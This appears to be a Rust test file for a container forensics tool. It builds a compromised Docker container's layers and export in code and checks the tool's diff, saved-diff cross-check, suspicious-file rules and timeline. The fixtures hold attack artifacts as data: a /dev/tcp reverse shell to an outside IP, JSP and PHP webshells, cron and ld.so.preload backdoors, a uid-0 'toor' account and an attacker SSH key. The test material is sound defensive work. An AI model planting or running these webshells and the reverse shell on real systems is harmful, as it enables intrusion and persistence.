//! The container's own changes (docker commit layers, docker export vs image, saved docker
//! diff cross-check), the suspicious-file rules and the file timeline, on an attacked
//! container's evidence built in code.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::image_build::{step, Image, Layer, Step, MTIME};
use crate::util::{run, run_json};

const BASE_TIME: &str = "2026-01-01T00:00:00Z";
/// 2026-01-15T00:00:00Z: when the attacker worked.
const ATTACK: u64 = 1_768_435_200;
/// 2020-01-01T00:00:00Z: a timestomped mtime, older than the base image.
const STOMPED: u64 = 1_577_836_800;

fn base_layers() -> (Vec<u8>, Vec<u8>) {
    let l0 = Layer::new()
        .dir("bin")
        .file_with("bin/ps", b"\x7fELF real ps", 0o755, MTIME)
        .dir("etc")
        .dir("etc/cron.d")
        .file("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nbin:x:1:1::/bin:/sbin/nologin\n")
        .file("etc/shadow", b"root:*:19000:0:99999:7:::\n")
        .dir("root")
        .file("root/.bash_history", b"ls\n")
        .dir("tmp")
        .dir("usr")
        .dir("usr/bin")
        .dir("var")
        .dir("var/log")
        .file("var/log/app.log", &[b'l'; 1000])
        .dir("var/www")
        .dir("var/www/html")
        .file("var/www/html/index.jsp", b"<html>hello</html>")
        .build();
    let l1 = Layer::new().dir("app").file("app/log4j-core-2.14.1.jar", b"PK\x03\x04not really").build();
    (l0, l1)
}

fn commit_layer() -> Vec<u8> {
    Layer::new()
        .dir("bin")
        .file_with("bin/ps", b"\x7fELF trojaned ps hiding pids", 0o755, ATTACK)
        .dir("etc")
        .dir("etc/cron.d")
        .file_with("etc/cron.d/backdoor", b"* * * * * root /tmp/kworker\n", 0o644, ATTACK)
        .file_with("etc/ld.so.preload", b"/tmp/.x/lib.so\n", 0o644, ATTACK)
        .file_with(
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/sh\nbin:x:1:1::/bin:/sbin/nologin\ntoor:x:0:0::/root:/bin/sh\n",
            0o644,
            ATTACK,
        )
        .dir("root")
        // A whiteout of a path that does not exist below deletes nothing.
        .file(".wh.placeholder-not-used", b"")
        .file("root/.wh..bash_history", b"")
        .dir("root/.ssh")
        .file_with("root/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n", 0o600, ATTACK)
        .dir("tmp")
        .file_with("tmp/kworker", b"\x7fELF\x02\x01\x01 miner stratum+tcp://pool.example:3333", 0o755, ATTACK)
        .dir("tmp/.x")
        .file_with("tmp/.x/suid", b"\x7fELF suid shell", 0o4755, ATTACK)
        .dir("var")
        .dir("var/log")
        .file_with("var/log/app.log", b"", 0o644, ATTACK)
        .dir("var/www")
        .dir("var/www/html")
        .file_with(
            "var/www/html/shell.jsp",
            b"<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
            0o644,
            ATTACK,
        )
        .file_with("var/www/html/old.php", b"<?php @eval($_POST['x']); ?>", 0o644, STOMPED)
        .build()
}

fn original() -> Image {
    let (l0, l1) = base_layers();
    let mut img = Image::new("shop/app:1.0")
        .layer(l0, step(BASE_TIME, "/bin/sh -c #(nop) ADD file:abc in / "))
        .layer(l1, step(BASE_TIME, "COPY app /app # buildkit"));
    img.cmd = vec!["catalina.sh".into(), "run".into()];
    img.history.push(Step {
        created: BASE_TIME,
        created_by: "CMD [\"catalina.sh\" \"run\"]".into(),
        comment: "buildkit.dockerfile.v0",
        empty: true,
    });
    img
}

fn committed() -> Image {
    let mut img = original();
    img.tag = "evidence/app:case-42".into();
    img.created = "2026-02-01T00:00:00Z".into();
    img.layers.push((commit_layer(), commit_layer()));
    img.history.push(step("2026-02-01T00:00:00Z", "catalina.sh run"));
    img
}

/// The container's export: the committed image's merged view, the runtime files, and one
/// change made after the commit.
fn export_tar() -> Vec<u8> {
    Layer::new()
        .file(".dockerenv", b"")
        .dir("app")
        .file("app/log4j-core-2.14.1.jar", b"PK\x03\x04not really")
        .dir("bin")
        .file_with("bin/ps", b"\x7fELF trojaned ps hiding pids", 0o755, ATTACK)
        .dir("dev")
        .dir("etc")
        .dir("etc/cron.d")
        .file_with("etc/cron.d/backdoor", b"* * * * * root /tmp/kworker\n", 0o644, ATTACK)
        .file("etc/hostname", b"c0ffee\n")
        .file("etc/hosts", b"127.0.0.1 localhost\n")
        .file_with("etc/ld.so.preload", b"/tmp/.x/lib.so\n", 0o644, ATTACK)
        .file_with(
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/sh\nbin:x:1:1::/bin:/sbin/nologin\ntoor:x:0:0::/root:/bin/sh\n",
            0o644,
            ATTACK,
        )
        .file("etc/shadow", b"root:*:19000:0:99999:7:::\n")
        .dir("proc")
        .dir("root")
        .dir("root/.ssh")
        .file_with("root/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n", 0o600, ATTACK)
        .dir("sys")
        .dir("tmp")
        .dir("tmp/.x")
        .file_with("tmp/.x/suid", b"\x7fELF suid shell", 0o4755, ATTACK)
        .file_with("tmp/kworker", b"\x7fELF\x02\x01\x01 miner stratum+tcp://pool.example:3333", 0o755, ATTACK)
        .file_with(
            "tmp/later.sh",
            b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
            0o755,
            ATTACK + 60,
        )
        .dir("usr")
        .dir("usr/bin")
        .dir("var")
        .dir("var/log")
        .file_with("var/log/app.log", b"", 0o644, ATTACK)
        .dir("var/www")
        .dir("var/www/html")
        .file("var/www/html/index.jsp", b"<html>hello</html>")
        .file_with("var/www/html/old.php", b"<?php @eval($_POST['x']); ?>", 0o644, STOMPED)
        .file_with(
            "var/www/html/shell.jsp",
            b"<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
            0o644,
            ATTACK,
        )
        .build()
}

const EXPECTED_DIFF: &[&str] = &[
    "C /bin",
    "C /bin/ps",
    "C /etc",
    "C /etc/cron.d",
    "A /etc/cron.d/backdoor",
    "A /etc/ld.so.preload",
    "C /etc/passwd",
    "C /root",
    "D /root/.bash_history",
    "A /root/.ssh",
    "A /root/.ssh/authorized_keys",
    "C /tmp",
    "A /tmp/.x",
    "A /tmp/.x/suid",
    "A /tmp/kworker",
    "A /tmp/later.sh",
    "C /var",
    "C /var/log",
    "C /var/log/app.log",
    "C /var/www",
    "C /var/www/html",
    "A /var/www/html/old.php",
    "A /var/www/html/shell.jsp",
];

fn lines(v: &Value) -> Vec<String> {
    v["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| {
            let k = match l["change"].as_str().unwrap() {
                "added" => "A",
                "changed" => "C",
                _ => "D",
            };
            format!("{k} {}", l["path"].as_str().unwrap())
        })
        .collect()
}

#[test]
fn diff_command_rebuilds_docker_diff_against_the_image_below_the_commit() {
    let dir = tempfile::tempdir().unwrap();
    let img = dir.path().join("committed.tar");
    let exp = dir.path().join("export.tar");
    std::fs::write(&img, committed().docker_save()).unwrap();
    std::fs::write(&exp, export_tar()).unwrap();
    let out = run(&["diff", "--image", img.to_str().unwrap(), exp.to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    let got: Vec<&str> = text.lines().collect();
    let want: Vec<&str> = EXPECTED_DIFF.to_vec();
    assert_eq!(got, want, "stderr: {}", String::from_utf8_lossy(&out.stderr));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("without its committed layer"), "{stderr}");
    let (v, _) = run_json(&["diff", "--image", img.to_str().unwrap(), exp.to_str().unwrap()]);
    let cc = &v["container_changes"];
    assert_eq!(cc["source"], "export");
    assert_eq!(cc["base"]["layers"], 2);
    let ignored: BTreeSet<&str> =
        cc["ignored"].as_array().unwrap().iter().map(|x| x.as_str().unwrap()).collect();
    for p in ["/.dockerenv", "/etc/hostname", "/etc/hosts", "/proc", "/sys", "/dev"] {
        assert!(ignored.contains(p), "{p} not ignored: {ignored:?}");
    }
}

fn bundle(dir: &std::path::Path, with_export: bool, with_original: bool, saved_diff: Option<&str>) -> String {
    std::fs::write(dir.join("committed.tar"), committed().docker_save()).unwrap();
    if with_export {
        std::fs::write(dir.join("export.tar"), export_tar()).unwrap();
    }
    if with_original {
        std::fs::write(dir.join("original.tar"), original().docker_save()).unwrap();
    }
    if let Some(d) = saved_diff {
        std::fs::write(dir.join("diff.txt"), d).unwrap();
    }
    dir.to_str().unwrap().to_string()
}

#[test]
fn scan_cross_checks_the_saved_diff_and_reports_every_disagreement() {
    let dir = tempfile::tempdir().unwrap();
    let mut saved: Vec<String> =
        EXPECTED_DIFF.iter().filter(|l| !l.contains("later.sh")).map(|s| s.to_string()).collect();
    saved.push("A /tmp/gone".into());
    saved.push("C /etc/hosts".into()); // runtime file: ignored on both sides
    let (v, code) = run_json(&["scan", &bundle(dir.path(), true, false, Some(&(saved.join("\n") + "\n")))]);
    assert_eq!(code & 1, 1);
    let b = &v["bundles"][0];
    let cc = &b["container_changes"];
    assert_eq!(lines(cc), EXPECTED_DIFF);
    assert_eq!(cc["saved_entries"], saved.len());
    let dis: Vec<String> = cc["disagreements"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| format!("{} {} {}", d["path"].as_str().unwrap(), d["saved"], d["rebuilt"]))
        .collect();
    assert_eq!(dis, ["/tmp/gone \"added\" null", "/tmp/later.sh null \"added\""]);
    let f = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "container.diff.disagreement"))
        .unwrap();
    assert_eq!(f["evidence"][0]["artifact"], "diff.txt");
    assert_eq!(f["evidence"][0]["line"], saved.len() - 1);
    // The export's own change is a file change with the export as its source.
    let later = b["file_changes"].as_array().unwrap().iter().find(|c| c["path"] == "/tmp/later.sh").unwrap();
    assert_eq!(later["source"], "export");
    assert_eq!(later["locator"]["artifact"], "export.tar");
    assert_eq!(later["locator"]["members"][0], "/tmp/later.sh");
    let rules: BTreeSet<&str> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["rules"].as_array().unwrap().iter().map(|r| r.as_str().unwrap()))
        .collect();
    assert!(rules.contains("file.reverse-shell"), "{rules:?}");
}

#[test]
fn suspicious_files_in_the_commit_layer_with_layer_and_file_locators() {
    let dir = tempfile::tempdir().unwrap();
    let (v, code) = run_json(&["scan", &bundle(dir.path(), false, false, None)]);
    assert_eq!(code & 1, 1);
    let b = &v["bundles"][0];
    let img = &b["images"][0];
    assert_eq!(img["committed_layers"], serde_json::json!([2]));
    assert!(img["commit_reason"].as_str().unwrap().contains("docker commit"));
    let cc = &b["container_changes"];
    assert_eq!(cc["source"], "committed-layers");
    let want: Vec<&str> = EXPECTED_DIFF.iter().copied().filter(|l| !l.contains("later.sh")).collect();
    assert_eq!(lines(cc), want);
    let findings = b["findings"].as_array().unwrap();
    let rules: BTreeSet<&str> = findings
        .iter()
        .flat_map(|f| f["rules"].as_array().unwrap().iter().map(|r| r.as_str().unwrap()))
        .collect();
    for r in [
        "file.webshell.jsp",
        "file.webshell.php",
        "file.miner",
        "file.exec.temp",
        "file.exec.hidden",
        "file.setuid",
        "file.persistence.cron",
        "file.persistence.ld-preload",
        "file.persistence.ssh-keys",
        "file.account.uid0",
        "file.account.passwd",
        "file.antiforensics.history",
        "file.antiforensics.logs",
        "file.replaced-binary",
        "file.log4j.rce",
        "file.timestomp",
    ] {
        assert!(rules.contains(r), "{r} missing from {rules:?}");
    }
    // Nothing in the build layers is taken for the container's doing.
    let not: Vec<&Value> = findings
        .iter()
        .filter(|f| {
            f["rules"].as_array().unwrap().iter().any(|r| r == "file.account.passwd")
                || f["rules"].as_array().unwrap().iter().any(|r| r == "file.replaced-binary")
        })
        .collect();
    assert_eq!(not.len(), 2);
    let shell = findings
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "file.webshell.jsp"))
        .unwrap();
    let layer_blob = img["layers"][2]["blob"].as_str().unwrap();
    assert_eq!(shell["evidence"][0]["artifact"], "committed.tar");
    assert_eq!(shell["evidence"][0]["members"], serde_json::json!([layer_blob, "/var/www/html/shell.jsp"]));
    assert_eq!(shell["time"], "2026-01-15T00:00:00.000000000Z");
    let uid0 = findings
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "file.account.uid0"))
        .unwrap();
    assert!(uid0["summary"].as_str().unwrap().contains("toor"));
    let stomp = findings
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "file.timestomp"))
        .unwrap();
    assert!(stomp["title"].as_str().unwrap().contains("/var/www/html/old.php"));
    // log4j in a build layer (any scope), found by file name.
    let l4j = findings
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "file.log4j.rce"))
        .unwrap();
    assert!(l4j["summary"].as_str().unwrap().contains("2.14.1"));
    assert_eq!(l4j["evidence"][0]["members"][1], "/app/log4j-core-2.14.1.jar");
    // The untouched index.jsp is no finding.
    assert!(!findings.iter().any(|f| f["title"].as_str().unwrap().contains("index.jsp")));
}

#[test]
fn original_image_in_the_bundle_is_the_base() {
    let dir = tempfile::tempdir().unwrap();
    let (v, _) = run_json(&["scan", &bundle(dir.path(), true, true, None)]);
    let b = &v["bundles"][0];
    let cc = &b["container_changes"];
    let orig = b["images"].as_array().unwrap().iter().find(|i| i["repo_tags"][0] == "shop/app:1.0").unwrap();
    assert_eq!(cc["base"]["image"], orig["index"]);
    assert!(cc["base"]["description"].as_str().unwrap().contains("original image"));
    assert_eq!(lines(cc), EXPECTED_DIFF);
    let committed =
        b["images"].as_array().unwrap().iter().find(|i| i["repo_tags"][0] == "evidence/app:case-42").unwrap();
    assert_eq!(committed["committed_layers"], serde_json::json!([2]));
}

#[test]
fn timeline_orders_layers_first_and_dates_container_changes_by_mtime() {
    let dir = tempfile::tempdir().unwrap();
    let (v, _) = run_json(&["scan", &bundle(dir.path(), false, false, None)]);
    let tl = v["bundles"][0]["timeline"].as_array().unwrap();
    let hist: Vec<&Value> = tl.iter().filter(|e| e["kind"] == "image-history").collect();
    assert_eq!(hist.len(), 4);
    let shell = tl
        .iter()
        .find(|e| {
            e["kind"] == "file-change" && e["message"].as_str().unwrap().contains("A /var/www/html/shell.jsp")
        })
        .unwrap();
    assert_eq!(shell["time"], "2026-01-15T00:00:00.000000000Z");
    assert_eq!(shell["timestamp_desc"], "file mtime (container layer)");
    assert_eq!(shell["order"][0], 2);
    assert!(shell["message"].as_str().unwrap().contains("sha256 "));
    let base_file = tl.iter().find(|e| e["message"].as_str().unwrap().contains("A /etc/shadow")).unwrap();
    assert_eq!(base_file["time"], "2026-01-01T00:00:00.000000000Z");
    assert!(base_file["message"].as_str().unwrap().contains("mtime 2020-09-13T12:26:40.000000000Z"));
    assert_eq!(base_file["order"][0], 0);
}

#[test]
fn diff_without_an_image_is_an_error_not_a_guess() {
    let dir = tempfile::tempdir().unwrap();
    let exp = dir.path().join("export.tar");
    std::fs::write(&exp, export_tar()).unwrap();
    let (v, code) = run_json(&["diff", "--image", exp.to_str().unwrap(), exp.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert_eq!(v["container_changes"], Value::Null);
    assert!(v["diagnostics"].as_array().unwrap().iter().any(|d| d["level"] == "error"));
}

#[test]
fn base_image_option_is_the_base_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let base = outside.path().join("original.tar");
    std::fs::write(&base, original().docker_save()).unwrap();
    let (v, _) =
        run_json(&["scan", &bundle(dir.path(), true, false, None), "--base-image", base.to_str().unwrap()]);
    let b = &v["bundles"][0];
    let cc = &b["container_changes"];
    assert!(cc["base"]["description"].as_str().unwrap().contains("--base-image"), "{}", cc["base"]);
    assert_eq!(lines(cc), EXPECTED_DIFF);
    let roles: Vec<&str> =
        b["images"].as_array().unwrap().iter().map(|i| i["role"].as_str().unwrap()).collect();
    assert_eq!(roles, ["image", "base-image"]);
    // The committed image's extra layer is recognised against the base image too.
    assert_eq!(b["images"][0]["committed_layers"], serde_json::json!([2]));
}
